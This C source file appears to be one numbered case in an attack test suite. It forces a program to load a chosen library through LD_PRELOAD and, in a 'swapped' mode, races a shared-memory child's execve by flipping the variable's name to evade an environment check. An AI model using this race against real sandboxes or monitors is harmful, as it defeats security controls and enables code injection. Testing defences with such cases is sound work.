// 68: makes the program that it runs load a library: preload PROGRAM LIBRARY (plain | swapped). Swapped, a process that shares its memory puts the variable there
// while the exec is under way.
#include "attack.h"
#include <sched.h>

static char variable[PATH_MAX + 16], harmless[PATH_MAX + 16], wanted[PATH_MAX + 16];
static char stack[1 << 16];
static char **arguments, *environment[4];

static int execute(void *data) {
  (void)data;
  execve(arguments[0], arguments, environment);
  _exit(111);
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  const bool swapped = !strcmp(argv[3], "swapped");
  snprintf(wanted, sizeof wanted, "LD_PRELOAD=%s", argv[2]);
  snprintf(harmless, sizeof harmless, "XX%s", wanted + 2);
  strcpy(variable, swapped ? harmless : wanted);
  static char *program[2];
  program[0] = argv[1];
  arguments = program;
  environment[0] = variable;
  environment[1] = swapped ? NULL : "LD_AUDIT=/nowhere";
  if (!swapped) return execute(NULL);
  volatile char *const start = variable;
  for (int round = 0; round < 40; round++) {
    strcpy(variable, harmless);
    // Its parent goes on, with the same memory.
    const pid_t child = clone(execute, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
    for (int status; waitpid(child, &status, WNOHANG) == 0;) {
      start[0] = 'L', start[1] = 'D';
      for (volatile int spin = 0; spin < 20000; spin++) continue;
      start[0] = 'X', start[1] = 'X';
      for (volatile int spin = 0; spin < 20000; spin++) continue;
    }
  }
  return 0;
}
